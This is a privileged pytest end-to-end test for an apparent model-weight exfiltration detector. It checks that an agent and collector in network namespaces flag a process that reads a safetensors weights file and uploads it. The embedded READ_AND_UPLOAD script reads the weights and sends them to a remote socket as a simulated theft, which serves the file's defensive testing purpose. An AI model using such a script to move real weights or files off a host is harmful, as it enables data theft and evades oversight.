"""The whole chain in namespaces: a real agent, a real Mosquitto, a real collector.

Namespace A is the GPU host (agent, weights); B is the outside world (broker,
collector, and the server the weights are uploaded to).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.broker import Broker
from tests.helpers.netns import NetnsPair, wait_for

pytestmark = pytest.mark.privileged
REPO = Path(__file__).resolve().parents[2]
SIZE = 64 * 2**20

READ_AND_UPLOAD = """
import socket, sys
data = open(sys.argv[1], 'rb').read()
s = socket.create_connection((sys.argv[2], 8080))
s.sendall(data)
s.close()
"""
UPLOAD_ONLY = """
import os, socket, sys
s = socket.create_connection((sys.argv[2], 8080))
s.sendall(os.urandom(int(sys.argv[3])))
s.close()
"""
READ_ONLY = """
import sys
data = open(sys.argv[1], 'rb').read()
"""


def alerts(db: str) -> list[dict[str, Any]]:
    out = subprocess.run([sys.executable, "-m", "weightwarden.collector", "alerts", "list", "--json", "--db", db],
                         capture_output=True, text=True, cwd=str(REPO))
    # A CLI that fails is a failure, never "no alerts": the innocent-process check below relies on it.
    assert out.returncode == 0, out.stderr
    return list(json.loads(out.stdout))


def test_read_then_upload_alerts_within_five_seconds(netns_pair: NetnsPair, tmp_path: Path) -> None:
    pair = netns_pair
    models = tmp_path / "models"
    models.mkdir()
    weights = models / "model-00001-of-00002.safetensors"
    weights.write_bytes(os.urandom(SIZE))
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"""apiVersion: weightwarden/v1
kind: EgressPolicy
metadata: {{name: e2e}}
spec:
  weights:
    paths: ["{models}/*.safetensors"]
""")
    broker = Broker(tmp_path / "broker", host=pair.addr_b, port=18850, netns=pair.b).start()
    db = f"sqlite:///{tmp_path}/collector.db"
    try:
        with (tmp_path / "collector.log").open("wb") as clog, (tmp_path / "agent.log").open("wb") as alog:
            pair.popen(pair.b, sys.executable, "-m", "weightwarden.collector", "run", "--broker", broker.url, "--db", db,
                       cwd=str(REPO), stdout=subprocess.DEVNULL, stderr=clog)
            sink = pair.popen(pair.b, sys.executable, "-m", "tests.helpers.sink", pair.addr_b, "8080", "9000",
                              cwd=str(REPO), stdout=subprocess.PIPE)
            assert sink.stdout is not None and sink.stdout.readline().strip() == b"ready"
            pair.popen(pair.a, sys.executable, "-m", "weightwarden.agent", "run", "--policy", str(policy), "--state-dir",
                       str(tmp_path / "state"), "--host-id", "gpu-e2e", "--heartbeat-interval", "2",
                       "--sink", f"mqtt://{pair.addr_b}:{broker.port}", cwd=str(REPO),
                       stdout=subprocess.DEVNULL, stderr=alog)
        def hosts() -> str:
            return subprocess.run([sys.executable, "-m", "weightwarden.collector", "hosts", "--json", "--db", db],
                                  capture_output=True, text=True, cwd=str(REPO)).stdout
        assert wait_for(lambda: "gpu-e2e" in hosts(), 30), (tmp_path / "agent.log").read_text()[-2000:]

        # 1. Read the weights, then upload them: an alert naming process, file and destination.
        t0 = time.monotonic()
        thief = pair.popen(pair.a, sys.executable, "-c", READ_AND_UPLOAD, str(weights), pair.addr_b)
        assert thief.wait(timeout=60) == 0

        def found() -> dict[str, Any] | None:
            for a in alerts(db):
                ev = a["evidence"]
                if (ev.get("process") or {}).get("pid") == thief.pid and str(weights) in ev.get("files", []) \
                        and any(d["address"] == pair.addr_b for d in ev.get("destinations", [])):
                    return a
            return None

        assert wait_for(lambda: found() is not None, 10, 0.1), alerts(db)
        took = time.monotonic() - t0
        alert = found()
        assert alert is not None and alert["severity"] in ("high", "critical") and alert["host"] == "gpu-e2e"
        assert took <= 5.0, f"alert after {took:.1f}s"
        # The verdict grows with the facts: once every sample is in, all of it has left.
        assert wait_for(lambda: (found() or {}).get("evidence", {}).get("bytes_sent", 0) >= 0.99 * SIZE, 10, 0.2), \
            found()
        assert (found() or {})["severity"] == "critical"

        # 2. The same upload by a process that read nothing, and 3. the same read with no upload: neither is
        # linked to the weights. The upload comes right after reads on this host and matches their size, so
        # the host-level rule may name it, saying it found no link, and never at critical.
        innocent = pair.popen(pair.a, sys.executable, "-c", UPLOAD_ONLY, str(weights), pair.addr_b, str(SIZE))
        reader = pair.popen(pair.a, sys.executable, "-c", READ_ONLY, str(weights), pair.addr_b)
        assert innocent.wait(timeout=60) == 0 and reader.wait(timeout=60) == 0
        time.sleep(5)
        for a in alerts(db):
            pid = (a["evidence"].get("process") or {}).get("pid")
            if pid in (innocent.pid, reader.pid):
                assert a["kind"] == "host_exfiltration" and a["severity"] != "critical", a
                assert "host-level rule" in a["explanation"] and pid == innocent.pid
    finally:
        broker.stop()
